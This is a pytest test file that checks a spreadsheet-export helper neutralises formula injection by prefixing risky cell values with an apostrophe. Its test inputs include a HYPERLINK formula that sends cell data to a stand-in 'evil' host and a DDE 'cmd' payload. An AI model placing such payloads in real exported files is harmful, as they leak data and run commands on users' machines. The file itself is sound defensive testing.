"""Formula injection: what `safe_cell` lets through and what it neutralises."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from hoso.core.xlsx import safe_cell, safe_row


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://evil/?"&A1,"Bấm")', '\'=HYPERLINK("http://evil/?"&A1,"Bấm")'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("＝1+1", "'＝1+1"),
        ("- Chăm chỉ", "'- Chăm chỉ"),
        ("-5", "-5"),
        ("+84912345678", "+84912345678"),
        ("7,5", "7,5"),
        ("Nguyễn Văn A", "Nguyễn Văn A"),
        ("", ""),
        (8, 8),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_a_workbook_written_with_safe_row_has_no_formula():
    book = Workbook()
    sheet = book.active
    sheet.append(safe_row(["=1+1", "@A1", "Tên", 9.5]))
    out = io.BytesIO()
    book.save(out)

    cells = list(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())[0]

    assert [c.data_type for c in cells] == ["s", "s", "s", "n"]
    assert [c.value for c in cells] == ["'=1+1", "'@A1", "Tên", 9.5]
